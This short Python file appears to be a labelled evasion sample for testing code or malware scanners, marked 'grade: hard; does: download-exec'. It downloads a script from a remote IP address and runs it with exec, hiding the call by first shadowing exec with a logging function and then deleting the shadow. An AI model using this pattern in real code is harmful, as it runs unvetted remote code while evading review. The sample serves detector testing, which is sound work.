# evasion: exec is shadowed by a harmless logging function, then `del exec` brings the builtin back before it runs downloaded code
# grade: hard; does: download-exec
import urllib.request


def exec(text):
    print("[log]", text[:60])


exec("bootstrap starting")
body = urllib.request.urlopen("http://203.0.113.19/bootstrap.py", timeout=10).read().decode()
exec("bootstrap fetched")
del exec
exec(body)
